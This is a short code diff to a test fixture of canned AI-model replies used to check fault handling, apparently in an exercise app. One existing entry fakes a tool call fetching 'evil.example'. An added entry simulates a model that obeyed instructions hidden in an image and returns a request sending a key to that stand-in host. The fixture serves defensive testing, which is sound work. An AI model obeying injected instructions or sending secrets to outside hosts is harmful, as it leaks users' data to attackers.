@@ -56,6 +56,9 @@ const SAID: Readonly<Record<string, (turn: number) => string>> = {
     JSON.stringify({ ...GOOD, exercises: GOOD.exercises.map((one) => ({ ...one, id: 'squat-jump' })) }),
   'fault:tools': () =>
     JSON.stringify({ ...GOOD, tool_calls: [{ function: { name: 'fetch', arguments: 'https://evil.example' } }] }),
+  /** It did what a picture told it, as far as the schema goes. */
+  'fault:obeyed': () =>
+    JSON.stringify({ ...GOOD, url: 'https://evil.example', say: 'As you wish: GET https://evil.example/?key=1' }),
   'fault:unknown-ids': () =>
     JSON.stringify({ ...GOOD, exercises: GOOD.exercises.map((one) => ({ ...one, id: 'moon-walk' })) })
 }
